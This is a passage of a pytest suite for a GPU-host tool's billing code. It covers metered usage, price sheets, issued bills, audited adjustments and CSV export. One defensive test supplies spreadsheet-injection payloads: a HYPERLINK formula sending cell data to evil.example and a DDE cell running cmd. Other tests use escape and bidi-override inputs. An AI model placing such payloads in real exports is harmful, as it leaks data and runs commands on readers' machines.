"""Bills (issue 32): a month of usage metered by the real sampler over a simulated clock and
NVML, priced by a price sheet that uses every rule; the bill's totals against a reference
computed here, independently, from the simulated schedule; bad price sheets; issued bills
that never change; audited adjustments; the CSV and JSON exports."""

from __future__ import annotations

import csv
import io
import json
import random
import shutil
from datetime import datetime, timezone
from decimal import ROUND_HALF_EVEN, ROUND_HALF_UP, Decimal
from fractions import Fraction
from pathlib import Path

import pytest

from vgpuhost.cli.main import main
from vgpuhost.io import state as st
from vgpuhost.io.backends import metering_nvml
from vgpuhost.io.hostroot import HostRoot
from vgpuhost.io.state import StateStore
from vgpuhost.model.usage import UsageRow
from vgpuhost.ops import billing as ops
from vgpuhost.ops.metering import MeteredOwner, Sampler
from vgpuhost.policy import billing
from vgpuhost.sim.build import materialise
from vgpuhost.sim.spec import parse_spec

SPEC = """
version: 1
name: bill-host
summary: an A40 (mdev), an H200 in MIG mode and an L40S (vendor VFIO), an A40 to pass through
host:
  cpu_vendor: GenuineIntel
  cmdline: BOOT_IMAGE=/vmlinuz root=/dev/sda1 ro quiet intel_iommu=on iommu=pt
  kernel_release: 6.8.0-45-generic
  modules: [vfio_pci, vfio_pci_core, vfio_iommu_type1, vfio, nvidia, nvidia_vgpu_vfio]
devices:
  - {bdf: "0000:80:03.0", model: intel-root-port, numa_node: 1, iommu_group: 30}
  - {bdf: "0000:81:00.0", model: A40, upstream: "0000:80:03.0", numa_node: 1, iommu_group: 31,
     vgpu: {backend: mdev}}
  - {bdf: "0000:17:01.0", model: intel-root-port, numa_node: 0}
  - {bdf: "0000:18:00.0", model: H200-SXM-141GB, upstream: "0000:17:01.0", numa_node: 0,
     vgpu: {backend: vendor-vfio, sriov_numvfs: 16}, mig: {mode: true}}
  - {bdf: "0000:20:01.1", model: amd-root-port, numa_node: 0}
  - {bdf: "0000:21:00.0", model: L40S, upstream: "0000:20:01.1", numa_node: 0,
     vgpu: {backend: vendor-vfio, sriov_numvfs: 16}}
  - {bdf: "0000:c0:03.0", model: intel-root-port, numa_node: 1, iommu_group: 40}
  - {bdf: "0000:c1:00.0", model: A40, upstream: "0000:c0:03.0", numa_node: 1, iommu_group: 41}
"""

#: every rule: a profile rate, a family rate (per GB-hour), a MIG slice rate, tiered passthrough
#: GPU-hours, SM-busy hours, reserved rates on guarantees, a burst surcharge, a tenant discount
PRICES = """\
version: 1
description: GPU farm chargeback, November 2026
currency: EUR
rounding: half-even
allocated:
  profiles:
    A40-8Q: 0.80
  families:
    L40S-Q: 0.06
  mig_slice: 0.35
passthrough_gpu:
  - {up_to: 500, rate: 2.40}
  - {rate: 1.90}
sm_busy: 0.10
reserved:
  vgpus: 0.50
  mig_slices: 0.30
burst_surcharge_percent: 25
tenants:
  acme: {discount_percent: 10}
"""

DOM_A1 = "1e8927c3-0000-4000-8000-0000000000a1"
DOM_A2 = "1e8927c3-0000-4000-8000-0000000000a2"
DOM_B1 = "1e8927c3-0000-4000-8000-0000000000b1"
DOM_B2 = "1e8927c3-0000-4000-8000-0000000000b2"
DOM_G = "1e8927c3-0000-4000-8000-0000000000c1"
TENANT = {DOM_A1: "acme", DOM_A2: "acme", DOM_B1: "beta", DOM_B2: "beta", DOM_G: "gamma"}
NOV = datetime(2026, 11, 1, tzinfo=timezone.utc).timestamp()
HOURS = 720
#: (domain, profile, first tick, last tick): present from the first to the last hourly tick
SCHEDULE = [(DOM_A1, "A40-8Q", 0, 744), (DOM_A2, "A40-8Q", 216, 456), (DOM_B1, "L40S-4Q", 0, 744),
            (DOM_B2, "H200X-2-35C", 72, 672), (DOM_G, "passthrough", 0, 744)]
#: the sampler is down for these ticks (a 10 hour outage: 6 hours of samples held, 4 a gap)
DOWN = range(603, 612)
TICKS = 744                 # the month, then a day of December


def _run(host, *args, capsys=None):
    rc = main(["--root", str(host.root), *args])
    if capsys is not None:
        out = capsys.readouterr()
        return rc, out.out, out.err
    return rc


def _loads(seed: int = 32):
    """Each device's SM percent per day of the month (seeded)."""
    rnd = random.Random(seed)
    return {dom: [rnd.randrange(0, 101) for _ in range(32)] for dom, *_ in SCHEDULE}


@pytest.fixture(scope="module")
def history(tmp_path_factory):
    """A host whose state store holds a month of rollups the real Sampler wrote, hourly ticks
    over a simulated clock (about 3 s); returns (host, loads)."""
    base = tmp_path_factory.mktemp("billhist")
    host = materialise(parse_spec(SPEC), base / "host")
    assert _run(host, "tenant", "add", "acme", "--vgpus", "1:3") == 0
    assert _run(host, "tenant", "add", "beta", "--mig-slices", "1:4", "--allow-oversubscribe") == 0
    assert _run(host, "tenant", "add", "gamma") == 0
    store = StateStore(host.state_dir)
    with store.transaction() as conn:
        # the tenants were added on the real clock; the month is metered on a simulated one before it:
        # their guarantees are in force since October (the history is append-only: an older row is added)
        conn.execute("INSERT INTO tenant_guarantees (tenant, since, vgpus, mig_slices, passthrough_gpus) SELECT "
                     "tenant, '2026-10-01T00:00:00.000000+00:00', vgpus, mig_slices, passthrough_gpus "
                     "FROM tenant_guarantees")
        store.put_passthrough(conn, st.PassthroughRecord("0000:c1:00.0", 41, "0000:c1:00.0", "nvidia", None, 0,
                                                         st.utcnow(), False, DOM_G))
    nv = metering_nvml(host)
    nv.freeze(NOV)
    loads = _loads()
    ids = {}

    def create(dom, profile):
        args = ["vgpu", "create", "--profile", profile, "--owner", dom]
        if "-2-" in profile:
            args.append("--create-gi")
        assert _run(host, *args) == 0
        (rec,) = [r for r in store.vgpu_records() if r.owner == dom]
        ids[dom] = rec.id
        nv.set_trace(rec.id, {"sm": {"steps": [[d * 86400, v] for d, v in enumerate(loads[dom])]}, "start": NOV,
                              "vm": dom, "fb_mib": 2000})

    names = {d: f"vm-{d[-2:]}" for d in TENANT}
    sampler = Sampler(nv, store, interval_s=3600,
                      labels=lambda u: MeteredOwner(u, names.get(u, ""), TENANT.get(u, ""), ""))
    for tick in range(TICKS + 1):
        for dom, profile, first, _last in SCHEDULE:
            if tick == first and profile != "passthrough":
                create(dom, profile)
        if tick not in DOWN:
            sampler.tick()
        for dom, profile, _first, last in SCHEDULE:
            if tick == last and profile != "passthrough":
                assert _run(host, "vgpu", "remove", ids[dom]) == 0
        if tick < TICKS:
            nv.advance(3600)
    return host, loads


@pytest.fixture
def farm(history, tmp_path):
    """A copy of the month's host for one test (issuing writes to its store)."""
    host, loads = history
    dest = tmp_path / "host"
    shutil.copytree(host.root, dest, symlinks=True)
    return HostRoot(dest), loads


def _prices(tmp_path, text=PRICES, name="prices.yaml") -> Path:
    p = tmp_path / name
    p.write_text(text)
    return p


# --- the reference: the schedule priced by hand, in fractions -------------------------

def _cents(x: Fraction, mode=ROUND_HALF_EVEN) -> Decimal:
    return (Decimal(x.numerator) / Decimal(x.denominator)).quantize(Decimal("0.01"), rounding=mode)


def _qty(x: Fraction) -> Fraction:
    d = (Decimal(x.numerator) / Decimal(x.denominator)).quantize(Decimal("0.000001"), rounding=ROUND_HALF_EVEN)
    return Fraction(d)


def reference(loads):
    """Each tenant's November total, from the schedule and the loads alone (not the rollups)."""
    F = Fraction
    hold = 6

    def hours(dom):
        (_, _, first, last), = [s for s in SCHEDULE if s[0] == dom]
        return [h for h in range(first, min(last, HOURS))]

    def busy(dom):      # SM-busy hours: an hour's load; the outage's 10 hours count 6 of their mean
        total = F(0)
        for h in hours(dom):
            v = F(loads[dom][h // 24], 100)
            total += v * (F(hold, len(DOWN) + 1) if h in range(DOWN[0] - 1, DOWN[-1] + 1) else 1)
        return total

    def money(q, rate):
        return _cents(_qty(q) * F(rate))

    out = {}
    # acme: 1 guaranteed vGPU (0.50/h all month); two A40-8Q while A2 runs: one of them above it
    a_both = set(hours(DOM_A1)) & set(hours(DOM_A2))
    burst_h = F(len(a_both))                                  # 2 in use, 1 guaranteed: 1 vGPU-hour each
    reserved = money(F(HOURS), "0.50")
    burst = money(burst_h, "0.80")
    surcharge = _cents(F(burst) * F(25, 100))
    sm = money(busy(DOM_A1) + busy(DOM_A2), "0.10")
    subtotal = reserved + burst + surcharge + sm
    out["acme"] = subtotal - _cents(F(subtotal) * F(10, 100))
    # beta: L40S-4Q on demand per GB-hour (4 GB); H200X-2-35C (2 slices), 1 slice guaranteed
    fam = money(F(len(hours(DOM_B1))) * 4, "0.06")
    mig_burst = money(F(len(hours(DOM_B2))) * 2 - F(len(hours(DOM_B2))), "0.35")
    out["beta"] = (money(F(HOURS), "0.30") + fam + mig_burst + _cents(F(mig_burst) * F(25, 100))
                   + money(busy(DOM_B1) + busy(DOM_B2), "0.10"))
    # gamma: a passed-through GPU all month, 500 GPU-hours at 2.40, the rest at 1.90
    out["gamma"] = money(F(500), "2.40") + money(F(HOURS - 500), "1.90")
    return out


# --- the month ---------------------------------------------------------------------

def test_the_months_bill_equals_the_reference_to_the_cent(farm, tmp_path, capsys):
    host, loads = farm
    prices = _prices(tmp_path)
    rc, out, err = _run(host, "--json", "bill", "--prices", str(prices), "--period", "2026-11", capsys=capsys)
    assert rc == 0, err
    doc = json.loads(out)
    totals = {t["tenant"]: Decimal(t["amount"]) for t in doc["totals"]}
    ref = reference(loads)
    assert totals == ref
    assert Decimal(doc["total"]) == sum(ref.values())
    assert doc["status"] == "open" and doc["complete"] is True and doc["hours"] == 720
    assert doc["currency"] == "EUR" and doc["rounding"] == "half-even"
    items = {(ln["tenant"], ln["item"], ln["key"], ln["tier"]) for ln in doc["lines"]}
    assert {("acme", "reserved", "vgpus", 0), ("acme", "covered", "vgpus", 0), ("acme", "burst", "A40-8Q", 0),
            ("acme", "burst-surcharge", "A40-8Q", 0), ("acme", "sm-busy", "sm_busy", 0),
            ("acme", "discount", "discount_percent", 0), ("beta", "reserved", "mig_slices", 0),
            ("beta", "on-demand", "L40S-Q", 0), ("beta", "burst", "mig_slice", 0),
            ("gamma", "on-demand", "passthrough_gpu", 1), ("gamma", "on-demand", "passthrough_gpu", 2)} <= items
    # each line's amount is its quantity times its rate, rounded; each tenant's total the sum of its lines
    for ln in doc["lines"]:
        assert Decimal(ln["amount"]) == (Decimal(ln["quantity"]) * Decimal(ln["rate"])).quantize(
            Decimal("0.01"), rounding=ROUND_HALF_EVEN)
    for t, amount in totals.items():
        assert sum(Decimal(ln["amount"]) for ln in doc["lines"] if ln["tenant"] == t) == amount
    # source rows: the rollup rows behind a line, as the store holds them
    (fam,) = [ln for ln in doc["lines"] if ln["key"] == "L40S-Q"]
    store = StateStore(host.state_dir)
    rows = [r for r in st.usage_rows(store, "2026-11-01T00:00:00Z", "2026-12-01T00:00:00Z")
            if r.tenant == "beta" and r.profile == "L40S-4Q"]
    assert fam["source"]["rows"] == len(rows) == 720 and fam["quantity"] == "2880.000000"
    assert fam["unit"] == "GB-hour" and fam["source"]["first_hour"] == "2026-11-01T00:00:00Z"
    assert fam["source"]["last_hour"] == "2026-11-30T23:00:00Z" and fam["source"]["devices"] == [rows[0].device]
    # the outage is listed, with the tenants it touched, never billed silently
    gaps = {g["device"]: g for g in doc["gaps"]}
    assert len(gaps) == 3 and {tuple(g["tenants"]) for g in gaps.values()} == {("acme",), ("beta",)}
    assert all(g["seconds"] == pytest.approx(4 * 3600) for g in gaps.values())


def test_the_text_and_csv_exports(farm, tmp_path, capsys):
    host, loads = farm
    prices = _prices(tmp_path)
    rc, out, err = _run(host, "bill", "--prices", str(prices), "--period", "2026-11", "--csv", capsys=capsys)
    assert rc == 0, err
    rows = list(csv.reader(io.StringIO(out)))
    assert tuple(rows[0]) == ops.CSV_COLUMNS
    # the documented column list (docs/guide/billing.md) is the one the export writes
    guide = (Path(__file__).resolve().parents[1] / "docs/guide/billing.md").read_text()
    documented = [ln.split("`")[1] for ln in guide.split("<!-- csv-columns -->")[1].split("<!-- /csv-columns -->")[0]
                  .splitlines() if ln.startswith("| `")]
    assert tuple(documented) == ops.CSV_COLUMNS
    by_tenant = {}
    for r in rows[1:]:
        rec = dict(zip(rows[0], r))
        by_tenant[rec["tenant"]] = by_tenant.get(rec["tenant"], Decimal(0)) + Decimal(rec["amount"])
    assert by_tenant == reference(loads)
    assert err.count("gap:") == 3
    rc, out, _ = _run(host, "bill", "--prices", str(prices), "--period", "2026-11", "--tenant", "gamma",
                      capsys=capsys)
    assert rc == 0 and "passthrough_gpu" in out and "acme" not in out
    assert f"total: {reference(loads)['gamma']} EUR" in out


def test_an_issued_bill_never_changes_and_adjustments_are_audited(farm, tmp_path, capsys):
    host, loads = farm
    prices = _prices(tmp_path)
    rc, out, err = _run(host, "--json", "bill", "--prices", str(prices), "--period", "2026-11", "--issue",
                        capsys=capsys)
    assert rc == 0, err
    issued = json.loads(out)
    assert issued["status"] == "issued" and issued["issued"]["actor"]
    store = StateStore(host.state_dir)
    row = st.issued_bill(store, "2026-11")
    assert row[3] == billing.load_prices(prices).sha256
    # more history arrives for November (a late rollup), a guarantee changes, the prices change
    with store.transaction() as conn:
        st.add_usage(conn, [UsageRow("2026-11-30T23:00:00Z", "late", DOM_A1, "vgpu", "0000:81:00.0", "A40-8Q",
                                     "vm-a1", "acme", "", 3600.0, 3600.0, 0, 0, 0, 0, 1)])
    assert _run(host, "tenant", "set", "acme", "--vgpus", "2:3", capsys=capsys)[0] == 0
    other = _prices(tmp_path, PRICES.replace("0.80", "0.95"), "other.yaml")
    rc, out, err = _run(host, "--json", "bill", "--prices", str(other), "--period", "2026-11", capsys=capsys)
    assert rc == 0, err
    again = json.loads(out)
    assert again["sheet_differs"] is True
    for k in ("lines", "totals", "total", "prices_sha256", "gaps", "issued"):
        assert again[k] == issued[k]
    assert {t["tenant"]: Decimal(t["amount"]) for t in again["totals"]} == reference(loads)
    # issuing again is refused, nothing written
    rc, _, err = _run(host, "bill", "--prices", str(prices), "--period", "2026-11", "--issue", capsys=capsys)
    assert rc == 2 and "issued at" in err and "bill adjust" in err
    # the store refuses to change an issued bill
    with pytest.raises(Exception, match="never changes"):
        with store.transaction() as conn:
            conn.execute("UPDATE bills SET document = '{}'")
    # a late correction: an adjustment, audited; the issued lines stay
    n_audit = len(store.audit_rows())
    for tenant, amount, words in (("acme", "1.234", "more decimal places"), ("acme", "0", "non-zero"),
                                  ("acmee", "5", "has no lines")):
        rc, _, err = _run(host, "bill", "adjust", "--period", "2026-11", "--tenant", tenant, "--amount", amount,
                          "--reason", "x", capsys=capsys)
        assert rc == 2 and words in err, err
    assert len(store.audit_rows()) == n_audit and st.bill_adjustments(store, "2026-11") == []
    rc, out, err = _run(host, "--json", "bill", "adjust", "--period", "2026-11", "--tenant", "acme",
                        "--amount", "-12.50", "--reason", "outage credit", capsys=capsys)
    assert rc == 0, err
    adj = json.loads(out)
    audit = store.audit_rows()
    assert len(audit) == n_audit + 1 and audit[-1].operation == "bill adjust 2026-11"
    assert "-12.50 EUR" in audit[-1].value and "outage credit" in audit[-1].value
    assert adj["audit_id"] == audit[-1].id
    rc, out, _ = _run(host, "--json", "bill", "--period", "2026-11", capsys=capsys)
    doc = json.loads(out)
    assert doc["lines"] == issued["lines"] and len(doc["adjustments"]) == 1
    after = {t["tenant"]: Decimal(t["amount"]) for t in doc["totals_after_adjustments"]}
    assert after["acme"] == reference(loads)["acme"] - Decimal("12.50")
    rc, out, _ = _run(host, "bill", "--period", "2026-11", "--csv", capsys=capsys)
    assert rc == 0 and ",adjustment,1," in out and "outage credit" in out


BAD_AMOUNTS = {"1e400000": "not a plain decimal amount", "1_000": "not a plain decimal amount",
               "\u0661\u0660": "not a plain decimal amount", " 5": "not a plain decimal amount",
               "5.": "not a plain decimal amount", ".5": "not a plain decimal amount",
               "NaN": "not a plain decimal amount", "-Infinity": "not a plain decimal amount",
               "0x10": "not a plain decimal amount", "--5": "not a plain decimal amount",
               "1" * 400001: "400001 digits before the decimal point, more than 12",
               "1234567890123": "13 digits before the decimal point, more than 12",
               "1.001": "more decimal places", "-0.00": "non-zero"}
BAD_REASONS = {"two\nlines": "U+000A at character 4", "a\ttab": "U+0009", "\x1b[31mred": "U+001B",
               "\u202eevil": "U+202E", "nul\x00": "U+0000", "x" * 501: "over 500 characters", "  ": "needs a reason"}


def test_adjustment_amounts_and_reasons_are_checked_and_refusals_write_nothing(farm, tmp_path, capsys):
    host, _ = farm
    assert _run(host, "bill", "--prices", str(_prices(tmp_path)), "--period", "2026-11", "--issue",
                capsys=capsys)[0] == 0
    store = StateStore(host.state_dir)
    n_audit = len(store.audit_rows())
    cases = [(a, "outage credit", w) for a, w in BAD_AMOUNTS.items()] + [("-1.00", r, w) for r, w in BAD_REASONS.items()]
    for amount, reason, words in cases:
        rc, out, err = _run(host, "bill", "adjust", "--period", "2026-11", "--tenant", "acme", "--amount", amount,
                            "--reason", reason, capsys=capsys)
        lines = err.strip().splitlines()
        assert rc == 2 and out == "" and len(lines) == 1 and words in lines[0] and "; " in lines[0], (amount, err)
        assert len(err) < 400, err                         # the input is never echoed whole
    assert len(store.audit_rows()) == n_audit and st.bill_adjustments(store, "2026-11") == []
    # plain decimal text within bounds is taken, exactly
    for amount, stored in (("+5", "5.00"), ("999999999999.99", "999999999999.99"), ("-0.01", "-0.01")):
        rc, out, err = _run(host, "--json", "bill", "adjust", "--period", "2026-11", "--tenant", "ACME",
                            "--amount", amount, "--reason", "r\u00e9duction \u00e0 l'amiable", capsys=capsys)
        assert rc == 0, err
        assert json.loads(out)["amount"] == stored and json.loads(out)["tenant"] == "acme"
    assert [a[2] for a in st.bill_adjustments(store, "2026-11")] == ["5.00", "999999999999.99", "-0.01"]
    assert len(store.audit_rows()) == n_audit + 3


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(farm, tmp_path, capsys):
    host, loads = farm
    assert _run(host, "bill", "--prices", str(_prices(tmp_path)), "--period", "2026-11", "--issue",
                capsys=capsys)[0] == 0
    reasons = ['=HYPERLINK("http://evil.example/?x="&A1,"refund")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "plain credit"]
    for r in reasons:
        assert _run(host, "bill", "adjust", "--period", "2026-11", "--tenant", "acme", "--amount", "-1.50",
                    "--reason", r, capsys=capsys)[0] == 0
    rc, out, err = _run(host, "bill", "--period", "2026-11", "--csv", capsys=capsys)
    assert rc == 0, err
    rows = [dict(zip(ops.CSV_COLUMNS, r)) for r in list(csv.reader(io.StringIO(out)))[1:]]
    adj = [r for r in rows if r["item"] == "adjustment"]
    assert [r["note"] for r in adj] == ["'" + r for r in reasons[:4]] + ["plain credit"]
    assert {r["amount"] for r in adj} == {"-1.50"} and {r["rate"] for r in adj} == {"-1.50"}   # numbers stay
    assert not [r for r in rows for c in r.values() if c[:1] in ("=", "+", "@", "\t", "\r")]
    # the JSON carries the reason unchanged
    rc, out, _ = _run(host, "--json", "bill", "--period", "2026-11", capsys=capsys)
    assert [a["reason"] for a in json.loads(out)["adjustments"]] == reasons
    assert ops.csv_safe("\tx") == "'\tx" and ops.csv_safe("\rx") == "'\rx" and ops.csv_safe("a=b") == "a=b"
    assert ops.csv_safe(-3) == -3


def test_the_untenanted_lines_can_be_adjusted_as_the_bill_names_them(farm, tmp_path, capsys):
    host, _ = farm
    store = StateStore(host.state_dir)
    with store.transaction() as conn:            # a domain naming no tenant ran an hour in November
        st.add_usage(conn, [UsageRow("2026-11-02T00:00:00Z", "untenanted", DOM_A1, "vgpu", "0000:81:00.0", "A40-8Q",
                                     "vm-x", "", "", 3600.0, 0.0, 0, 0, 0, 0, 1)])
    assert _run(host, "bill", "--prices", str(_prices(tmp_path)), "--period", "2026-11", "--issue",
                capsys=capsys)[0] == 0
    rc, out, _ = _run(host, "bill", "--period", "2026-11", capsys=capsys)
    assert rc == 0 and "total (no tenant): 0.80 EUR" in out
    # a tenant not billed: the hint lists the tenants as --tenant takes them, '(no tenant)' among them
    rc, _, err = _run(host, "bill", "adjust", "--period", "2026-11", "--tenant", "nobody", "--amount", "1",
                      "--reason", "x", capsys=capsys)
    assert rc == 2 and "'(no tenant)'" in err and "'acme'" in err and "''" not in err, err
    for name in ("(no tenant)", "(No Tenant)", ""):
        rc, out, err = _run(host, "--json", "bill", "adjust", "--period", "2026-11", "--tenant", name,
                            "--amount", "-0.80", "--reason", "not ours", capsys=capsys)
        assert rc == 0, err
        assert json.loads(out)["tenant"] == ""
    assert [(a[1], a[2]) for a in st.bill_adjustments(store, "2026-11")] == [("", "-0.80")] * 3
    audit = store.audit_rows()[-1]
    assert audit.operation == "bill adjust 2026-11" and audit.value.startswith("tenant (no tenant): -0.80 EUR")
    rc, out, _ = _run(host, "--json", "bill", "--period", "2026-11", "--tenant", "(no tenant)", capsys=capsys)
    doc = json.loads(out)
    assert {ln["tenant"] for ln in doc["lines"]} == {""} and len(doc["adjustments"]) == 3
    assert doc["total_after_adjustments"] == "-1.60"


def test_refusals_write_nothing(farm, tmp_path, capsys):
    host, _ = farm
    prices = _prices(tmp_path)
    store = StateStore(host.state_dir)
    n_audit = len(store.audit_rows())
    # metering has not passed the end of December: too early to issue
    rc, _, err = _run(host, "bill", "--prices", str(prices), "--period", "2026-12", "--issue", capsys=capsys)
    assert rc == 2 and "has not passed the end of 2026-12" in err
    # an adjustment of a period not issued
    rc, _, err = _run(host, "bill", "adjust", "--period", "2026-11", "--tenant", "acme", "--amount", "5",
                      "--reason", "x", capsys=capsys)
    assert rc == 2 and "not issued" in err
    # a profile the sheet has no rate for
    rc, _, err = _run(host, "bill", "--prices", str(_prices(tmp_path, PRICES.replace("  families:\n    L40S-Q: 0.06\n", ""),
                                                           "nol40s.yaml")), "--period", "2026-11", capsys=capsys)
    assert rc == 2 and "L40S-4Q" in err and "allocated.families.L40S-Q" in err
    rc, _, err = _run(host, "bill", "--prices", str(prices), "--period", "2026-13", capsys=capsys)
    assert rc == 2 and "invalid period" in err
    assert st.issued_bill(store, "2026-11") is None and st.issued_bill(store, "2026-12") is None
    assert len(store.audit_rows()) == n_audit


# --- bad price sheets ---------------------------------------------------------------

def _sub(old, new):
    assert old in PRICES
    return PRICES.replace(old, new, 1)


BAD = {
    "unknown-key": (_sub("sm_busy: 0.10", "sm_bussy: 0.10"), 14, "unknown key 'sm_bussy'"),
    "wrong-type": (_sub("mig_slice: 0.35", "mig_slice: cheap"), 10, "must be a number"),
    "wrong-type-mapping": (_sub("  acme: {discount_percent: 10}", "  acme: [10]"), 20, "must be a mapping"),
    "negative-rate": (_sub("A40-8Q: 0.80", "A40-8Q: -0.80"), 7, "is negative"),
    "minus-zero-rate": (_sub("A40-8Q: 0.80", "A40-8Q: -0"), 7, "is negative (-0)"),
    "quoted-minus-zero": (_sub("  vgpus: 0.50", "  vgpus: '-0.0'"), 16, "is negative"),
    "quoted-version": (_sub("version: 1", "version: '1'"), 1, "version is the string '1', not the number 1"),
    "unsorted-tiers": (_sub("{up_to: 500, rate: 2.40}\n  - {rate: 1.90}",
                            "{up_to: 500, rate: 2.40}\n  - {up_to: 300, rate: 2.10}\n  - {rate: 1.90}"),
                       13, "tiers overlap or are unsorted"),
    "overlapping-tiers": (_sub("{up_to: 500, rate: 2.40}\n  - {rate: 1.90}",
                               "{up_to: 500, rate: 2.40}\n  - {up_to: 500, rate: 2.10}\n  - {rate: 1.90}"),
                          13, "tiers overlap or are unsorted"),
    "open-tier-not-last": (_sub("{up_to: 500, rate: 2.40}", "{rate: 2.40}"), 12, "is not the last tier"),
    "unknown-currency": (_sub("currency: EUR", "currency: EURO"), 3, "unknown currency 'EURO'"),
    "bad-version": (_sub("version: 1", "version: 2"), 1, "unsupported price sheet version 2"),
    "duplicate-key": (_sub("sm_busy: 0.10", "sm_busy: 0.10\nsm_busy: 0.20"), 15, "duplicate key 'sm_busy'"),
    "unparseable": (_sub("  mig_slice: 0.35", "  mig_slice: [0.35"), 11, "malformed YAML"),
    "bad-rounding": (_sub("rounding: half-even", "rounding: up"), 4, "unknown rounding 'up'"),
    "discount-over-100": (_sub("discount_percent: 10", "discount_percent: 110"), 20, "is above 100"),
    "bad-profile": (_sub("A40-8Q: 0.80", "A40-8X: 0.80"), 7, "is not a vGPU profile name"),
    "bad-family": (_sub("L40S-Q: 0.06", "L40S: 0.06"), 9, "is not a profile family"),
    "reserved-unknown-dimension": (_sub("  vgpus: 0.50", "  gpus: 0.50"), 16, "unknown key 'gpus'"),
    "infinite": (_sub("sm_busy: 0.10", "sm_busy: .inf"), 14, "not a finite number"),
    "not-a-sheet": ("- 1\n- 2\n", 1, "not a vgpuhost price sheet"),
    # money is the decimal text written: YAML 1.1 number forms a decimal reader would not take are refused
    "octal-rate": (_sub("A40-8Q: 0.80", "A40-8Q: 010"), 7, "is written '010', which YAML 1.1 reads as 8"),
    "sexagesimal-rate": (_sub("A40-8Q: 0.80", "A40-8Q: 1:30"), 7, "is written '1:30', which YAML 1.1 reads as 90"),
    "hex-rate": (_sub("L40S-Q: 0.06", "L40S-Q: 0x10"), 9, "is written '0x10', which YAML 1.1 reads as 16"),
    "underscore-rate": (_sub("mig_slice: 0.35", "mig_slice: 1_000"), 10, "which YAML 1.1 reads as 1000"),
    "exponent-rate": (_sub("sm_busy: 0.10", "sm_busy: 1.0e-1"), 14, "is written '1.0e-1', which YAML 1.1 reads as 0.1"),
    "exponent-string": (_sub("sm_busy: 0.10", "sm_busy: 1e3"), 14, "must be a number, found a string '1e3'"),
    "leading-dot": (_sub("  vgpus: 0.50", "  vgpus: .5"), 16, "is written '.5', which YAML 1.1 reads as 0.5"),
    "trailing-dot": (_sub("  vgpus: 0.50", "  vgpus: 1."), 16, "is written '1.', which YAML 1.1 reads as 1.0"),
    "plus-sign": (_sub("  mig_slices: 0.30", "  mig_slices: +1"), 17, "is written '+1'"),
    "quoted-octal": (_sub("A40-8Q: 0.80", "A40-8Q: '010'"), 7, "must be a number, found a string '010'"),
    "more-digits-than-a-float": (_sub("A40-8Q: 0.80", "A40-8Q: 0.1234567890123456789"), 7,
                                 "has 19 digits after the decimal point, more than 12"),
    "too-many-integer-digits": (_sub("{up_to: 500, rate: 2.40}", "{up_to: 1234567890123, rate: 2.40}"), 12,
                                "has 13 digits before the decimal point, more than 12"),
    "octal-tier-bound": (_sub("{up_to: 500, rate: 2.40}", "{up_to: 0500, rate: 2.40}"), 12,
                         "passthrough_gpu tier 1 up_to is written '0500', which YAML 1.1 reads as 320"),
    "hex-tier-rate": (_sub("  - {rate: 1.90}", "  - {rate: 0x2}"), 13, "tier 2 rate is written '0x2'"),
    "hex-surcharge": (_sub("burst_surcharge_percent: 25", "burst_surcharge_percent: 0x19"), 18,
                      "burst_surcharge_percent is written '0x19', which YAML 1.1 reads as 25"),
    "sexagesimal-discount": (_sub("discount_percent: 10", "discount_percent: 1:30"), 20,
                             "discount_percent is written '1:30', which YAML 1.1 reads as 90"),
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_a_bad_price_sheet_is_one_file_line_and_nothing_is_written(history, tmp_path, capsys, case):
    host, _ = history              # shared: a refusal writes nothing (checked below)
    text, line, what = BAD[case]
    path = _prices(tmp_path, text, f"{case}.yaml")
    store = StateStore(host.state_dir)
    n_audit = len(store.audit_rows())
    rc, out, err = _run(host, "bill", "--prices", str(path), "--period", "2026-11", "--issue", capsys=capsys)
    assert rc == 2 and out == ""
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert lines[0].startswith(f"vgpuhost: error: {path}:{line}: "), err
    assert what in lines[0] and "; " in lines[0]
    assert st.issued_bill(store, "2026-11") is None and len(store.audit_rows()) == n_audit


# --- pure pricing rules ---------------------------------------------------------------

def _row(hour, device, tenant, profile, alloc_s, kind="vgpu", sm=0.0):
    return UsageRow(hour, device, "d-" + device, kind, "0000:81:00.0", profile, "", tenant, "", alloc_s, sm, 0.0,
                    0.0, 0, 0, 1)


def test_rounding_half_up_and_half_even_and_currencies():
    up = billing.parse_prices("version: 1\ncurrency: EUR\nrounding: half-up\nallocated: {profiles: {A40-8Q: 0.005}}\n")
    even = billing.parse_prices("version: 1\ncurrency: EUR\nrounding: half-even\n"
                                "allocated: {profiles: {A40-8Q: 0.005}}\n")
    yen = billing.parse_prices("version: 1\ncurrency: jpy\nallocated: {profiles: {A40-8Q: 150.5}}\n")
    rows = [_row("2026-11-01T00:00:00Z", "v1", "t", "A40-8Q", 3600.0)]
    kw = dict(period="2026-11", start="2026-11-01T00:00:00Z", end="2026-12-01T00:00:00Z", hours=720, guarantees={})
    assert billing.price(rows, up, **kw).totals == {"t": Decimal("0.01")}
    assert billing.price(rows, even, **kw).totals == {"t": Decimal("0.00")}
    rows3 = [_row("2026-11-01T00:00:00Z", "v1", "t", "A40-8Q", 3 * 3600.0)]
    assert billing.price(rows3, even, **kw).totals == {"t": Decimal("0.02")}      # 0.015 -> 0.02
    assert billing.price(rows, yen, **kw).totals == {"t": Decimal("151")} and yen.currency == "JPY"   # 150.5 -> 151
    assert billing.price(rows3, yen, **kw).totals == {"t": Decimal("452")}         # 451.5 -> 452 (half-up)
    assert up.money(Decimal("2.675")) == Decimal("2.68")      # exact decimals: no 2.67 of binary floats


def test_a_guarantee_is_charged_unused_and_covers_use_hour_by_hour():
    sheet = billing.parse_prices("version: 1\ncurrency: USD\nallocated: {profiles: {A40-8Q: 1}}\n"
                                 "reserved: {vgpus: 0.25}\nburst_surcharge_percent: 10\n")
    kw = dict(period="2026-11", start="2026-11-01T00:00:00Z", end="2026-12-01T00:00:00Z", hours=720)
    # hour 0: three vGPUs against a guarantee of 2 -> 1 vGPU-hour above it; hour 1: one, covered
    rows = [_row("2026-11-01T00:00:00Z", f"v{i}", "t", "A40-8Q", 3600.0) for i in range(3)] + \
           [_row("2026-11-01T01:00:00Z", "v0", "t", "A40-8Q", 3600.0)]
    b = billing.price(rows, sheet, guarantees={"t": {"vgpus": 2}, "idle": {"vgpus": 1}}, **kw)
    lines = {(ln.tenant, ln.item): ln for ln in b.lines}
